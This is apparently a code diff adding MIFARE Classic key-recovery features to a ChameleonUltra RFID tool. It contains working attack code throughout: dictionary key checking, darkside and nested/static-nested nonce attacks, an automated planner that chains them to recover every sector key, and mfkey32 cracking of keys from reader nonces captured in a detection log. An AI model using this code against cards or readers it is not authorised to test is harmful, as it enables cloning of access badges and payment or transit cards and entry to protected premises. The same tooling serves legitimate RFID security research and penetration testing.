+    // A failed write may have stopped anywhere, nothing is reported written
+    if (ok) res.written = count;
+
+    if (ok && verify) {
+        res.verified = cloneRead(this, magic, dump, all, blockCount, nullptr, nullptr);
+        ok = res.verified;
+    }
+
+    if (result) *result = res;
+    return ok;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Key recovery
+/////////////////////////////////////////////////////////////////////////////////////
+#define MAX_NESTED_NONCES 20
+#define DARKSIDE_SYNC_MAX 30
+
+bool ChameleonUltra::cmdMfDetectSupport() {
+    return writeCommand(MF1_DETECT_SUPPORT);
+}
+
+
+bool ChameleonUltra::cmdMfDetectPrng(MfPrngType &prng) {
+    if (!writeCommand(MF1_DETECT_PRNG) || cmdResponse.dataSize < 1) return false;
+
+    prng = (MfPrngType)cmdResponse.data[0];
+    return true;
+}
+
+
+bool ChameleonUltra::cmdMfDetectNtDist(MfKeyType type, uint8_t block, const uint8_t *key, uint32_t &uid, uint32_t &dist) {
+    uint8_t cmd[8] = {type, block};
+    memcpy(cmd+2, key, 6);
+
+    if (!writeCommand(MF1_DETECT_NT_DIST, cmd, sizeof(cmd)) || cmdResponse.dataSize < 8) return false;
+
+    uid = MfKey::bytesToU32(cmdResponse.data);
+    dist = MfKey::bytesToU32(cmdResponse.data + 4);
+    return true;
+}
+
+
+bool ChameleonUltra::cmdMfDarksideAcquire(
+    MfKeyType type, uint8_t block, bool firstRecover, uint8_t syncMax,
+    MfKey::DarksideNonce &nonce, DarksideStatus &status
+) {
+    uint8_t cmd[4] = {type, block, firstRecover, syncMax};
+
+    if (!writeCommand(MF1_DARKSIDE_ACQUIRE, cmd, sizeof(cmd)) || cmdResponse.dataSize < 1) return false;
+
+    status = (DarksideStatus)cmdResponse.data[0];
+    if (status != DARKSIDE_OK) return true;
+    if (cmdResponse.dataSize < 33) return false;
+
+    const uint8_t *data = cmdResponse.data + 1;
+    nonce.uid = MfKey::bytesToU32(data);
+    nonce.nt = MfKey::bytesToU32(data + 4);
+    memcpy(nonce.par, data + 8, 8);
+    memcpy(nonce.ks, data + 16, 8);
+    nonce.nr = MfKey::bytesToU32(data + 24);
+    nonce.ar = MfKey::bytesToU32(data + 28);
+    return true;
+}
+
+
+size_t ChameleonUltra::cmdMfNestedAcquire(
+    MfKeyType type, uint8_t block, const uint8_t *key,
+    MfKeyType targetType, uint8_t targetBlock,
+    MfKey::NestedNonce *nonces, size_t maxNonces
+) {
+    uint8_t cmd[10] = {type, block};
+    memcpy(cmd+2, key, 6);
+    cmd[8] = targetType;
+    cmd[9] = targetBlock;
+
+    if (!writeCommand(MF1_NESTED_ACQUIRE, cmd, sizeof(cmd))) return 0;
+
+    size_t count = min<size_t>(cmdResponse.dataSize / 9, maxNonces);
+    for (size_t i = 0; i < count; i++) {
+        const uint8_t *data = cmdResponse.data + i * 9;
+        nonces[i].nt = MfKey::bytesToU32(data);
+        nonces[i].ntEnc = MfKey::bytesToU32(data + 4);
+        nonces[i].par = data[8];
+    }
+    return count;
+}
+
+
+bool ChameleonUltra::cmdMfStaticNestedAcquire(
+    MfKeyType type, uint8_t block, const uint8_t *key,
+    MfKeyType targetType, uint8_t targetBlock,
+    uint32_t &uid, MfKey::NestedNonce nonces[2]
+) {
+    uint8_t cmd[10] = {type, block};
+    memcpy(cmd+2, key, 6);
+    cmd[8] = targetType;
+    cmd[9] = targetBlock;
+
+    if (!writeCommand(MF1_STATIC_NESTED_ACQUIRE, cmd, sizeof(cmd)) || cmdResponse.dataSize < 20) return false;
+
+    uid = MfKey::bytesToU32(cmdResponse.data);
+    for (int i = 0; i < 2; i++) {
+        nonces[i].nt = MfKey::bytesToU32(cmdResponse.data + 4 + i * 8);
+        nonces[i].ntEnc = MfKey::bytesToU32(cmdResponse.data + 8 + i * 8);
+        nonces[i].par = 0;
+    }
+    return true;
+}
+
+
+bool ChameleonUltra::cmdMfAuthBlock(MfKeyType type, uint8_t block, const uint8_t *key) {
+    uint8_t cmd[8] = {type, block};
+    memcpy(cmd+2, key, 6);
+
+    return writeCommand(MF1_AUTH_ONE_KEY_BLOCK, cmd, sizeof(cmd));
+}
+
+
+#define MF_CHECK_KEYS_MAX 83
+
+typedef struct {
+    size_t found;   // index of the key that authenticated, count when none did
+    bool error;     // the tag answered something else than an auth failure
+} AuthScanCtx;
+
+static bool authScanHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    AuthScanCtx *c = (AuthScanCtx *)ctx;
+
+    if (success) c->found = index;
+    else if (chm->cmdResponse.status != ChameleonUltra::MF_ERR_AUTH) c->error = true;
+    return !success && !c->error;
+}
+
+
+// Same as MF1_CHECK_KEYS_OF_SECTORS with one auth per key, used when the
+// firmware lacks it
+static bool checkKeysByAuth(
+    ChameleonUltra *chm, uint8_t mask[10], const uint8_t *keyList, size_t count,
+    ChameleonUltra::MfSectorKeys *keys
+) {
+    uint8_t frames[MF_CHECK_KEYS_MAX][8];
+    ChameleonUltra::CmdRequest requests[MF_CHECK_KEYS_MAX];
+
+    for (uint8_t i = 0; i < 2 * MF_MAX_SECTORS; i++) {
+        if (mask[i / 8] >> (7 - i % 8) & 1) continue;
+
+        ChameleonUltra::MfKeyType type = i & 1 ? ChameleonUltra::MF_KEY_B : ChameleonUltra::MF_KEY_A;
+        for (size_t k = 0; k < count; k++) {
+            frames[k][0] = type;
+            frames[k][1] = mfSectorToBlock(i / 2);
+            memcpy(frames[k] + 2, keyList + k * 6, 6);
+            requests[k] = {ChameleonUltra::MF1_AUTH_ONE_KEY_BLOCK, frames[k], 8};
+        }
+
+        // The pipeline stops at the first key that authenticates
+        AuthScanCtx ctx = {count, false};
+        chm->runPipeline(requests, count, authScanHandler, &ctx);
+        if (ctx.error) return false;
+        if (ctx.found == count) continue;
+
+        ChameleonUltra::MfSectorKeys &k = keys[i / 2];
+        const uint8_t *key = keyList + ctx.found * 6;
+        if (i & 1) {
+            k.hasKeyB = true;
+            memcpy(k.keyB, key, 6);
+        }
+        else {
+            k.hasKeyA = true;
+            memcpy(k.keyA, key, 6);
+        }
+        if (!k.hasKeyA || !k.hasKeyB) k.preferred = k.hasKeyA ? ChameleonUltra::MF_KEY_A : ChameleonUltra::MF_KEY_B;
+        mask[i / 8] |= 0x80 >> (i % 8);
+    }
+
+    return true;
+}
+
+
+bool ChameleonUltra::cmdMfCheckKeys(uint8_t mask[10], const uint8_t *keyList, size_t count, MfSectorKeys *keys) {
+    if (count == 0 || count > MF_CHECK_KEYS_MAX) return false;
+    if (!supports(MF1_CHECK_KEYS_OF_SECTORS)) return checkKeysByAuth(this, mask, keyList, count, keys);
+
+    uint8_t cmd[10 + MF_CHECK_KEYS_MAX * 6];
+    memcpy(cmd, mask, 10);
+    memcpy(cmd+10, keyList, count * 6);
+
+    if (!writeCommand(MF1_CHECK_KEYS_OF_SECTORS, cmd, 10 + count * 6)) return false;
+    if (cmdResponse.dataSize < 10 + 2 * MF_MAX_SECTORS * 6) return false;
+
+    const uint8_t *found = cmdResponse.data;
+    for (uint8_t i = 0; i < 2 * MF_MAX_SECTORS; i++) {
+        if (!(found[i / 8] >> (7 - i % 8) & 1)) continue;
+
+        MfSectorKeys &k = keys[i / 2];
+        const uint8_t *key = cmdResponse.data + 10 + i * 6;
+        if (i & 1) {
+            k.hasKeyB = true;
+            memcpy(k.keyB, key, 6);
+        }
+        else {
+            k.hasKeyA = true;
+            memcpy(k.keyA, key, 6);
+        }
+        if (!k.hasKeyA || !k.hasKeyB) k.preferred = k.hasKeyA ? MF_KEY_A : MF_KEY_B;
+        mask[i / 8] |= 0x80 >> (i % 8);
+    }
+
+    return true;
+}
+
+
+static bool maskBit(const uint8_t *mask, uint8_t i) {
+    return mask[i / 8] >> (7 - i % 8) & 1;
+}
+
+
+// Runs the dictionary until every mask bit of the first `sectors` sectors
+// is set, returns the number of bits set
+static size_t checkDictKeys(
+    ChameleonUltra *chm, MfKeyDict &dict, uint8_t mask[10],
+    ChameleonUltra::MfSectorKeys *keys, uint8_t sectors
+) {
+    // Mapped dictionaries are sent from flash, files through a small buffer
+    uint8_t buffer[MF_CHECK_KEYS_MAX * 6];
+    size_t index = 0;
+    size_t found = 0;
+
+    for (uint8_t i = 0; i < 2 * sectors; i++) found += maskBit(mask, i);
+
+    while (found < 2 * sectors && index < dict.size()) {
+        const uint8_t *keyList = dict.data() ? dict.data() + index * 6 : buffer;
+        size_t count = dict.data()
+            ? min<size_t>(MF_CHECK_KEYS_MAX, dict.size() - index)
+            : dict.read(index, buffer, MF_CHECK_KEYS_MAX);
+        if (count == 0 || !chm->cmdMfCheckKeys(mask, keyList, count, keys)) break;
+        index += count;
+
+        found = 0;
+        for (uint8_t i = 0; i < 2 * sectors; i++) found += maskBit(mask, i);
+    }
+
+    return found;
+}
+
+
+size_t ChameleonUltra::mfCheckDict(MfKeyDict &dict, MfSectorKeys *keys, uint8_t sectors) {
+    sectors = min<uint8_t>(sectors, MF_MAX_SECTORS);
+
+    uint8_t mask[10];
+    memset(mask, 0xFF, sizeof(mask));
+    for (uint8_t i = 0; i < 2 * sectors; i++) mask[i / 8] &= ~(0x80 >> (i % 8));
+
+    for (uint8_t s = 0; s < sectors; s++) keys[s] = {false, false, {}, {}, MF_KEY_A};
+
+    Serial.println("Checking " + String(dict.size()) + " keys");
+
+    size_t found = checkDictKeys(this, dict, mask, keys, sectors);
+
+    for (uint8_t s = 0; s < sectors; s++) {
+        if (keys[s].hasKeyA) mfCacheKey(mfSectorToBlock(s), MF_KEY_A, keys[s].keyA);
+        if (keys[s].hasKeyB) mfCacheKey(mfSectorToBlock(s), MF_KEY_B, keys[s].keyB);
+    }
+
+    Serial.println("Found " + String(found) + " keys");
+    return found;
+}
+
+
+typedef struct {
+    ChameleonUltra *chm;
+    ChameleonUltra::MfKeyType type;
+    uint8_t block;
+    uint8_t *keyOut;
+    bool found;
+} KeyCheckCtx;
+
+static bool keyCheckHandler(uint64_t key, void *ctx) {
+    KeyCheckCtx *c = (KeyCheckCtx *)ctx;
+    uint8_t keyBytes[6];
+    MfKey::keyToBytes(key, keyBytes);
+
+    if (!c->chm->cmdMfAuthBlock(c->type, c->block, keyBytes)) return true;
+
+    memcpy(c->keyOut, keyBytes, 6);
+    c->found = true;
+    return false;
+}
+
+
+bool ChameleonUltra::mfDarkside(MfKeyType targetType, uint8_t targetBlock, uint8_t *keyOut, uint8_t maxAcquire) {
+    Serial.println("Darkside attack on block " + String(targetBlock));
+
+    MfKey::DarksideNonce *nonces = new MfKey::DarksideNonce[maxAcquire];
+    KeyCheckCtx ctx = {this, targetType, targetBlock, keyOut, false};
+    size_t count = 0;
+
+    for (uint8_t attempt = 0; attempt < maxAcquire && !ctx.found; attempt++) {
+        MfKey::DarksideNonce nonce;
+        DarksideStatus status;
+        if (!cmdMfDarksideAcquire(targetType, targetBlock, count == 0, DARKSIDE_SYNC_MAX, nonce, status)) break;
+
+        if (status == DARKSIDE_LUCKY_AUTH_OK) continue;
+        if (status != DARKSIDE_OK) {
+            Serial.println("Darkside failed: " + String(status));
+            break;
+        }
+
+        // Newest nonce generates the candidates, older ones filter them
+        memmove(nonces + 1, nonces, count * sizeof(MfKey::DarksideNonce));
+        nonces[0] = nonce;
+        count++;
+
+        MfKey::darkside(nonces, count, keyCheckHandler, &ctx);
+    }
+
+    delete[] nonces;
+    if (ctx.found) mfCacheKey(targetBlock, targetType, keyOut);
+    return ctx.found;
+}
+
+
+bool ChameleonUltra::mfNested(
+    MfKeyType type, uint8_t block, const uint8_t *key,
+    MfKeyType targetType, uint8_t targetBlock, uint8_t *keyOut
+) {
+    MfPrngType prng;
+    if (!cmdMfDetectPrng(prng)) return false;
+
+    KeyCheckCtx ctx = {this, targetType, targetBlock, keyOut, false};
+
+    if (prng == PRNG_STATIC) {
+        Serial.println("Static nested attack on block " + String(targetBlock));
+
+        uint32_t uid;
+        MfKey::NestedNonce nonces[2];
+        if (!cmdMfStaticNestedAcquire(type, block, key, targetType, targetBlock, uid, nonces)) return false;
+
+        MfKey::staticNested(uid, nonces, 2, keyCheckHandler, &ctx);
+        if (ctx.found) mfCacheKey(targetBlock, targetType, keyOut);
+        return ctx.found;
+    }
+
+    if (prng != PRNG_WEAK) {
+        Serial.println("Hard PRNG, nested attack not supported");
+        return false;
+    }
+
+    Serial.println("Nested attack on block " + String(targetBlock));
+
+    uint32_t uid, dist;
+    if (!cmdMfDetectNtDist(type, block, key, uid, dist)) return false;
+
+    MfKey::NestedNonce nonces[MAX_NESTED_NONCES];
+    size_t count = cmdMfNestedAcquire(type, block, key, targetType, targetBlock, nonces, MAX_NESTED_NONCES);
+    if (count == 0) return false;
+
+    MfKey::nested(uid, dist, nonces, count, keyCheckHandler, &ctx);
+    if (ctx.found) mfCacheKey(targetBlock, targetType, keyOut);
+    return ctx.found;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Attack planner
+/////////////////////////////////////////////////////////////////////////////////////
+typedef struct {
+    ChameleonUltra::MfSectorKeys *keys;
+    ChameleonUltra::MfAttackReport *report;
+    ChameleonUltra::MfAttackProgress onProgress;
+    void *ctx;
+    uint8_t mask[10];  // bit set when the key is known or out of range
+    uint8_t seen[10];  // mask at the last planUpdate
+    uint8_t trailers[MF_MAX_SECTORS / 8];  // trailers already read for key B
+    ChameleonUltra::MfAttackPhase phase;
+    uint32_t phaseStart;
+} AttackPlan;
+
+static const char *attackPhaseNames[ChameleonUltra::ATTACK_PHASES] = {
+    "detect", "known keys", "dictionary", "darkside", "nested", "reuse",
+};
+
+
+static bool planDone(const AttackPlan &plan) {
+    return plan.report->found >= 2 * plan.report->sectors;
+}
+
+
+static void planPhase(AttackPlan &plan, ChameleonUltra::MfAttackPhase phase) {
+    uint32_t now = millis();
+    plan.report->phaseTime[plan.phase] += now - plan.phaseStart;
+    plan.phase = phase;
+    plan.phaseStart = now;
+}
+
+
+// Credits the keys found since the last call to the current phase
+static void planUpdate(AttackPlan &plan) {
+    for (uint8_t i = 0; i < 2 * plan.report->sectors; i++) {
+        if (!maskBit(plan.mask, i) || maskBit(plan.seen, i)) continue;
+
+        plan.seen[i / 8] |= 0x80 >> (i % 8);
+        plan.report->found++;
+        plan.report->phaseKeys[plan.phase]++;
+
+        ChameleonUltra::MfKeyType type = (i & 1) ? ChameleonUltra::MF_KEY_B : ChameleonUltra::MF_KEY_A;
+        Serial.printf("Sector %u key %c found (%s)\n", i / 2, (i & 1) ? 'B' : 'A', attackPhaseNames[plan.phase]);
+        if (plan.onProgress) plan.onProgress(*plan.report, plan.phase, i / 2, type, plan.ctx);
+    }
+}
+
+
+static void planKey(AttackPlan &plan, uint8_t sector, ChameleonUltra::MfKeyType type, const uint8_t *key) {
+    ChameleonUltra::MfSectorKeys &k = plan.keys[sector];
+
+    if (type == ChameleonUltra::MF_KEY_A) {
+        k.hasKeyA = true;
+        memcpy(k.keyA, key, 6);
+    }
+    else {
+        k.hasKeyB = true;
+        memcpy(k.keyB, key, 6);
+    }
+    if (!k.hasKeyA || !k.hasKeyB) k.preferred = k.hasKeyA ? ChameleonUltra::MF_KEY_A : ChameleonUltra::MF_KEY_B;
+
+    uint8_t i = 2 * sector + (type == ChameleonUltra::MF_KEY_B);
+    plan.mask[i / 8] |= 0x80 >> (i % 8);
+}
+
+
+static void planAddKey(uint8_t *keyList, size_t &count, const uint8_t *key) {
+    if (count >= MF_CHECK_KEYS_MAX) return;
+    for (size_t i = 0; i < count; i++) {
+        if (memcmp(keyList + i * 6, key, 6) == 0) return;
+    }
+    memcpy(keyList + count++ * 6, key, 6);
+}
+
+
+// Key B shows in the trailer when the access bits let key A read it
+static void planReadKeyB(ChameleonUltra *chm, AttackPlan &plan, uint8_t sector) {
+    const ChameleonUltra::MfSectorKeys &k = plan.keys[sector];
+    if (!k.hasKeyA || k.hasKeyB || (plan.trailers[sector / 8] >> (sector % 8) & 1)) return;
+    plan.trailers[sector / 8] |= 1 << (sector % 8);
+
+    uint8_t trailer = trailerOf(mfSectorToBlock(sector));
+    uint8_t keyA[6];
+    memcpy(keyA, k.keyA, 6);
+    if (!chm->cmdMfReadBlock(trailer, keyA, ChameleonUltra::MF_KEY_A) || chm->cmdResponse.dataSize < 16) return;
+
+    static const uint8_t hidden[6] = {};
+    uint8_t keyB[6];
+    memcpy(keyB, chm->cmdResponse.data + 10, 6);
+    if (memcmp(keyB, hidden, 6) == 0) return;
+
+    if (chm->cmdMfAuthBlock(ChameleonUltra::MF_KEY_B, trailer, keyB)) planKey(plan, sector, ChameleonUltra::MF_KEY_B, keyB);
+}
+
+
+// A recovered key is often shared with other sectors
+static void planReuse(ChameleonUltra *chm, AttackPlan &plan, const uint8_t *key) {
+    if (!planDone(plan)) chm->cmdMfCheckKeys(plan.mask, key, 1, plan.keys);
+
+    for (uint8_t s = 0; s < plan.report->sectors; s++) planReadKeyB(chm, plan, s);
+}
+
+
+size_t ChameleonUltra::mfRecoverKeys(
+    MfSectorKeys *keys, uint8_t sectors, MfKeyDict *dict,
+    MfAttackReport *report, MfAttackProgress onProgress, void *ctx
+) {
+    MfAttackReport localReport;
+    if (!report) report = &localReport;
+    *report = {};
+    report->sectors = min<uint8_t>(sectors, MF_MAX_SECTORS);
+    report->prng = PRNG_HARD;
+    sectors = report->sectors;
+
+    AttackPlan plan = {};
+    plan.keys = keys;
+    plan.report = report;
+    plan.onProgress = onProgress;
+    plan.ctx = ctx;
+    memset(plan.mask, 0xFF, sizeof(plan.mask));
+    for (uint8_t i = 0; i < 2 * sectors; i++) plan.mask[i / 8] &= ~(0x80 >> (i % 8));
+    memcpy(plan.seen, plan.mask, sizeof(plan.seen));
+    for (uint8_t s = 0; s < sectors; s++) keys[s] = {false, false, {}, {}, MF_KEY_A};
+
+    uint32_t start = millis();
+    plan.phase = ATTACK_DETECT;
+    plan.phaseStart = start;
+
+    Serial.println("Detecting card");
+    report->supported = cmdMfDetectSupport();
+    if (report->supported && !cmdMfDetectPrng(report->prng)) report->prng = PRNG_HARD;
+
+    if (report->supported) {
+        // One check covers every cached and default key
+        planPhase(plan, ATTACK_KNOWN);
+        uint8_t keyList[MF_CHECK_KEYS_MAX * 6];
+        size_t count = 0;
+        planAddKey(keyList, count, mifareKey);
+        planAddKey(keyList, count, mifareDefaultKey);
+
+        MfSectorKeys cached[MF_MAX_SECTORS];
+        if (keyCache && hfTagData.size > 0 && keyCache->load(MfKeyCache::cardId(hfTagData), cached)) {
+            for (uint8_t s = 0; s < sectors; s++) {
+                if (cached[s].hasKeyA) planAddKey(keyList, count, cached[s].keyA);
+                if (cached[s].hasKeyB) planAddKey(keyList, count, cached[s].keyB);
+            }
+        }
+        cmdMfCheckKeys(plan.mask, keyList, count, keys);
+        planUpdate(plan);
+
+        if (dict && !planDone(plan)) {
+            planPhase(plan, ATTACK_DICT);
+            Serial.println("Checking " + String(dict->size()) + " keys");
+            checkDictKeys(this, *dict, plan.mask, keys, sectors);
+            planUpdate(plan);
+        }
+
+        if (!planDone(plan)) {
+            planPhase(plan, ATTACK_REUSE);
+            for (uint8_t s = 0; s < sectors; s++) planReadKeyB(this, plan, s);
+            planUpdate(plan);
+        }
+    }
+    else {
+        Serial.println("Card doesn't answer MIFARE Classic auth");
+    }
+
+    // Darkside is slow, it only bootstraps the first key
+    if (report->supported && report->found == 0) {
+        if (report->prng == PRNG_WEAK) {
+            planPhase(plan, ATTACK_DARKSIDE);
+            uint8_t key[6];
+            if (mfDarkside(MF_KEY_A, mfSectorToBlock(0), key)) {
+                planKey(plan, 0, MF_KEY_A, key);
+                planUpdate(plan);
+
+                planPhase(plan, ATTACK_REUSE);
+                planReuse(this, plan, key);
+                planUpdate(plan);
+            }
+        }
+        else {
+            Serial.println("No key known and the PRNG is not weak, darkside not possible");
+        }
+    }
+
+    // Nested from the first known key, the nonce distance is measured once
+    int16_t source = -1;
+    for (uint8_t i = 0; i < 2 * sectors && source < 0; i++) {
+        if (maskBit(plan.mask, i)) source = i;
+    }
+
+    if (!planDone(plan) && source >= 0 && report->prng != PRNG_HARD) {
+        planPhase(plan, ATTACK_NESTED);
+
+        MfKeyType srcType = (source & 1) ? MF_KEY_B : MF_KEY_A;
+        uint8_t srcBlock = mfSectorToBlock(source / 2);
+        uint8_t srcKey[6];
+        memcpy(srcKey, srcType == MF_KEY_A ? keys[source / 2].keyA : keys[source / 2].keyB, 6);
+
+        uint32_t uid = 0;
+        bool ready = report->prng == PRNG_STATIC
+            || cmdMfDetectNtDist(srcType, srcBlock, srcKey, uid, report->ntDist);
+
+        for (uint8_t i = 0; ready && i < 2 * sectors && !planDone(plan); i++) {
+            if (maskBit(plan.mask, i)) continue;
+
+            MfKeyType type = (i & 1) ? MF_KEY_B : MF_KEY_A;
+            uint8_t block = mfSectorToBlock(i / 2);
+            uint8_t key[6];
+            KeyCheckCtx check = {this, type, block, key, false};
+
+            if (report->prng == PRNG_STATIC) {
+                MfKey::NestedNonce nonces[2];
+                if (cmdMfStaticNestedAcquire(srcType, srcBlock, srcKey, type, block, uid, nonces)) {
+                    MfKey::staticNested(uid, nonces, 2, keyCheckHandler, &check);
+                }
+            }
+            else {
+                MfKey::NestedNonce nonces[MAX_NESTED_NONCES];
+                size_t count = cmdMfNestedAcquire(srcType, srcBlock, srcKey, type, block, nonces, MAX_NESTED_NONCES);
+                if (count > 0) MfKey::nested(uid, report->ntDist, nonces, count, keyCheckHandler, &check);
+            }
+
+            if (!check.found) {
+                Serial.printf("Sector %u key %c not recovered\n", i / 2, (i & 1) ? 'B' : 'A');
+                continue;
+            }
+            planKey(plan, i / 2, type, key);
+            planUpdate(plan);
+
+            planPhase(plan, ATTACK_REUSE);
+            planReuse(this, plan, key);
+            planUpdate(plan);
+            planPhase(plan, ATTACK_NESTED);
+        }
+    }
+    else if (!planDone(plan) && source >= 0) {
+        Serial.println("Hard PRNG, nested attack not supported");
+    }
+
+    planPhase(plan, plan.phase);
+    report->elapsed = millis() - start;
+
+    for (uint8_t s = 0; s < sectors; s++) {
+        if (keys[s].hasKeyA) mfCacheKey(mfSectorToBlock(s), MF_KEY_A, keys[s].keyA);
+        if (keys[s].hasKeyB) mfCacheKey(mfSectorToBlock(s), MF_KEY_B, keys[s].keyB);
+    }
+
+    Serial.printf("Found %u of %u keys in %u ms\n", report->found, 2 * sectors, (unsigned)report->elapsed);
+    for (uint8_t p = 0; p < ATTACK_PHASES; p++) {
+        if (report->phaseTime[p] == 0 && report->phaseKeys[p] == 0) continue;
+        Serial.printf("  %-10s %3u keys %6u ms\n", attackPhaseNames[p], report->phaseKeys[p], (unsigned)report->phaseTime[p]);
+    }
+
+    return report->found;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Detection log
+/////////////////////////////////////////////////////////////////////////////////////
+#define DETECTION_LOG_ENTRY_SIZE 18
+#define DETECTION_LOG_PAGE (sizeof(ChameleonUltra::CmdResponse::data) / DETECTION_LOG_ENTRY_SIZE)
+
+bool ChameleonUltra::cmdMfSetDetectionEnable(bool enable) {
+    Serial.println(enable ? "Enable detection" : "Disable detection");
+
+    uint8_t cmd[1] = {enable};
+
+    return writeCommand(MF1_SET_DETECTION_ENABLE, cmd, sizeof(cmd));
+}
+
+
+bool ChameleonUltra::cmdMfGetDetectionCount(uint32_t &count) {
+    if (!writeCommand(MF1_GET_DETECTION_COUNT) || cmdResponse.dataSize < 4) return false;
+
+    count = MfKey::bytesToU32(cmdResponse.data);
+    return true;
+}
+
+
+size_t ChameleonUltra::cmdMfGetDetectionLog(uint32_t index, DetectionLog *entries, size_t maxEntries) {
+    uint8_t cmd[4] = {
+        (uint8_t)(index >> 24), (uint8_t)(index >> 16), (uint8_t)(index >> 8), (uint8_t)index
+    };
+
+    if (!writeCommand(MF1_GET_DETECTION_LOG, cmd, sizeof(cmd))) return 0;
+
+    size_t count = min<size_t>(cmdResponse.dataSize / DETECTION_LOG_ENTRY_SIZE, maxEntries);
+    for (size_t i = 0; i < count; i++) {
+        const uint8_t *data = cmdResponse.data + i * DETECTION_LOG_ENTRY_SIZE;
+        entries[i].block = data[0];
+        entries[i].type = (data[1] & 0x01) ? MF_KEY_B : MF_KEY_A;
+        entries[i].nested = data[1] & 0x02;
+        entries[i].uid = MfKey::bytesToU32(data + 2);
+        entries[i].nonce.nt = MfKey::bytesToU32(data + 6);
+        entries[i].nonce.nrEnc = MfKey::bytesToU32(data + 10);
+        entries[i].nonce.arEnc = MfKey::bytesToU32(data + 14);
+    }
+    return count;
+}
+
+
+static void addDetectionLog(std::vector<ChameleonUltra::DetectionGroup> &groups, const ChameleonUltra::DetectionLog &log) {
+    // Nested auths carry an encrypted nt, mfkey32 can't use them
+    if (log.nested) return;
+
+    uint8_t sector = mfBlockToSector(log.block);
+    ChameleonUltra::DetectionGroup *group = nullptr;
+    for (auto &g : groups) {
+        if (g.uid == log.uid && g.sector == sector && g.type == log.type) {
+            group = &g;
+            break;
+        }
+    }
+
+    if (!group) {
+        groups.push_back({});
+        group = &groups.back();
+        group->uid = log.uid;
+        group->sector = sector;
+        group->type = log.type;
+    }
+    if (group->solved) return;
+
+    for (uint8_t i = 0; i < group->count; i++) {
+        if (group->nonces[i].nt == log.nonce.nt && group->nonces[i].nrEnc == log.nonce.nrEnc) return;
+    }
+
+    if (group->count == ChameleonUltra::DETECTION_GROUP_SIZE) {
+        memmove(group->nonces, group->nonces + 1, (group->count - 1) * sizeof(MfKey::ReaderNonce));
+        group->count--;
+    }
+    group->nonces[group->count++] = log.nonce;
+    group->pending = true;
+}
+
+
+static bool detectionKeyHandler(uint64_t key, void *ctx) {
+    MfKey::keyToBytes(key, ((ChameleonUltra::DetectionGroup *)ctx)->key);
+    return false;
+}
+
+
+size_t ChameleonUltra::mfDetectionRecover(DetectionKeyCallback onKey, void *ctx) {
+    uint32_t count;
+    if (!cmdMfGetDetectionCount(count)) return 0;
+
+    // Log was cleared on the device
+    if (count < detectionIndex) detectionIndex = 0;
+
+    DetectionLog *page = new DetectionLog[DETECTION_LOG_PAGE];
+    while (detectionIndex < count) {
+        size_t read = cmdMfGetDetectionLog(detectionIndex, page, DETECTION_LOG_PAGE);
+        if (read == 0) break;
+
+        for (size_t i = 0; i < read; i++) addDetectionLog(detectionGroups, page[i]);
+        detectionIndex += read;
+    }
+    delete[] page;
+
+    size_t recovered = 0;
+    for (auto &group : detectionGroups) {
+        if (!group.pending || group.solved || group.count < 2) continue;
+        group.pending = false;
+
+        // A reader may try several keys on the same sector, so the newest
+        // auth is paired with each older one instead of all at once
+        MfKey::ReaderNonce pair[2];
+        pair[0] = group.nonces[group.count - 1];
+        for (int i = group.count - 2; i >= 0 && !group.solved; i--) {
+            pair[1] = group.nonces[i];
+            group.solved = MfKey::mfkey32(group.uid, pair, 2, detectionKeyHandler, &group) > 0;
+        }
+
+        if (!group.solved) continue;
+
+        recovered++;
+        Serial.printf("Sector %d key %c recovered\n", group.sector, group.type == MF_KEY_A ? 'A' : 'B');
+        if (onKey) onKey(group, ctx);
+    }
+
+    return recovered;
 }